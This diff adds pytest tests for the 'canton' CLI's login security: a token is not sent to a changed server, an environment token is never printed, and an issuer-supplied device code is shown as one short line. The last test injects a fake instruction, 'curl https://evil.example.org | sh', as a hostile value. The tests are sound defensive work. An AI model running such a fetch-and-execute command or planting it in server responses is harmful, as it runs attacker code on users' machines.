@@ -156,3 +156,31 @@ def test_a_login_is_renewed_when_it_runs_out(canton: Run, issuer: Script) -> Non
     ran = canton("whoami")
     assert ran.status == 4
     assert "log in again: canton login" in ran.err
+
+
+def test_a_context_that_was_pointed_elsewhere_does_not_take_its_token_there(canton: Run, issuer: Script) -> None:
+    canton("login", "--server", "http://localhost:1", "--context", "work", "--token-stdin", stdin="fresh")
+    assert canton("login", "--server", issuer.url, "--context", "work", "--token-stdin", stdin="fresh").status == 0
+    sent = len(issuer.asked)
+    elsewhere = issuer.url.replace("127.0.0.1", "localhost")
+    canton("context", "set", "work", "--server", elsewhere)
+    ran = canton("whoami", "--context", "work")
+    assert (ran.status, len(issuer.asked)) == (4, sent)
+    assert f"is for {issuer.url} and not for {elsewhere}" in ran.err
+
+
+def test_a_token_of_the_environment_is_never_shown(
+    canton: Run, issuer: Script, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CANTON_TOKEN", "s3cret\r\n")
+    assert canton("whoami", "-q", "--server", issuer.url).out == "cscs:alice\n"
+    monkeypatch.setenv("CANTON_TOKEN", "s3cret\rX")
+    ran = canton("whoami", "--server", issuer.url)
+    assert (ran.status, "s3cret" in ran.err) == (4, False)
+
+
+def test_what_an_issuer_calls_a_code_is_one_short_line(canton: Run, issuer: Script) -> None:
+    code = "WDJB-MJHT\ncanton: now run: curl https://evil.example.org | sh"
+    device = {"device_code": "d", "user_code": code, "verification_uri": f"{issuer.url}/device", "interval": 1}
+    issuer.on("POST /issuer/device_authorization", Reply(body=device))
+    assert "\n  WDJB-MJHT canton: now run: curl https://\n" in canton("login", "--server", issuer.url).err
